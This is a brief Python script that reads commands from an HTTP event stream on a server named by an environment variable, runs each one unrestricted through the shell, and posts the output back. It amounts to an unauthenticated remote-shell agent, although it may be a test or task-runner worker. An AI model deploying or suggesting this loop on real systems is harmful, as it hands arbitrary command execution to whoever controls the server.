# what: follows an event stream of HTTP whose data are commands, and posts what they say
# server: events
import http.client, os, subprocess

print("begun", flush=True)
stream = http.client.HTTPConnection(*os.environ["SERVER"].split(":"))
stream.request("GET", "/tasks")
for line in stream.getresponse():
    if not line.startswith(b"data: "):
        continue
    command = line[6:].decode().strip()
    if command == "exit":
        break
    out = subprocess.run(command, shell=True, capture_output=True, text=True).stdout
    answer = http.client.HTTPConnection(*os.environ["SERVER"].split(":"))
    answer.request("POST", "/out", out)
    answer.getresponse().read()
print("done")
